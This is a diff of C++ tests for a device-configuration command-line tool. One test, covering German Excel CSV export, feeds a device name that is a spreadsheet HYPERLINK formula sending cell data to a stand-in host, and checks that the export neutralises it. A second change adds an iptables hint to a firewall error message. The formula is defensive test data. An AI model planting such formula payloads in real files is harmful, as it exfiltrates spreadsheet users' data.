@@ -587,6 +587,43 @@ TEST_F(CliTest, EveryWayOutOfAReadPlanReplacesOrRemovesAnEarlierReport) {
   }
 }
 
+// list --csv --output writes a file for a German Excel: UTF-8 with a
+// byte-order mark, semicolons, a name that would be a formula neutralised;
+// the file is a plan, and its report takes its separator and mark, and is
+// known as a report on the next run.
+TEST_F(CliTest, ListWritesAFileForExcelThatIsAPlanWithAReportInItsForm) {
+  DevsimProcess devsim(
+      {"--device",
+       "serial=A1,ip=10.0.0.1,netmask=255.0.0.0,gateway=10.0.0.254,name=Pr\xC3\xBC"
+       "f",
+       "--device",
+       "serial=A2,ip=10.0.0.2,netmask=255.0.0.0,gateway=10.0.0.254,name==HYPERLINK(\"http://"
+       "x.example/?\"&A1;\"klick\")"});
+  ASSERT_DEVSIM_READY(devsim);
+  TempFile plan;
+  TempFile report;
+  const RunResult list = RunCli({"list", "--csv", "--separator", ";", "--output", plan.path()});
+  ASSERT_EQ(list.exitCode, 0) << list.err;
+  EXPECT_EQ(list.out, "");
+  EXPECT_EQ(plan.Read(),
+            "\xEF\xBB\xBFserialText;name;dhcp;ipAddress;netmask;gateway;status;interface\r\n"
+            "0000A1;Pr\xC3\xBC"
+            "f;No;10.0.0.1;255.0.0.0;10.0.0.254;-;lo\r\n"
+            "0000A2;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"klick\"\")\";No;10.0.0.2;"
+            "255.0.0.0;10.0.0.254;-;lo\r\n");
+  for (int run = 0; run < 2; ++run) {
+    const RunResult apply = RunCli({"apply", plan.path(), "--yes", "--report", report.path()});
+    ASSERT_EQ(apply.exitCode, 0) << apply.err;
+    const std::vector<std::string> lines = Lines(report.Read());
+    ASSERT_EQ(lines.size(), 3u) << report.Read();
+    EXPECT_EQ(lines[0],
+              "\xEF\xBB\xBFline;serial;name;device_id;interface;dhcp;ip;netmask;gateway;result;"
+              "detail;commands\r");
+    EXPECT_TRUE(Contains(lines[2], ";already done;")) << lines[2];
+  }
+  EXPECT_EQ(Commands(devsim).size(), 0u);
+}
+
 // What a dry run says when a planned device may be missing: nobody answered
 // (where discovery went, the usual causes), only other devices did, or the
 // network never fell quiet; no planned device found is a failure.
@@ -602,7 +639,10 @@ TEST_F(CliTest, ADryRunSaysWhyPlannedDevicesMayBeMissing) {
        {},
        7,
        "velkarin: no device answered the discovery sent to 255.255.255.255:8001 out of lo; "
-       "usually a firewall drops UDP port 8001, or a network cable or adapter is down\n"},
+       "usually a firewall drops the answers: allow incoming UDP from source port 8001 (iptables "
+       "-I "
+       "INPUT -p udp --sport 8001 -j ACCEPT; answers come to a port the system chooses, and new "
+       "devices answer from 0.0.0.0), or a network cable or adapter is down\n"},
       {"only others answer",
        {"--device", kPlanDevices[2]},
        7,
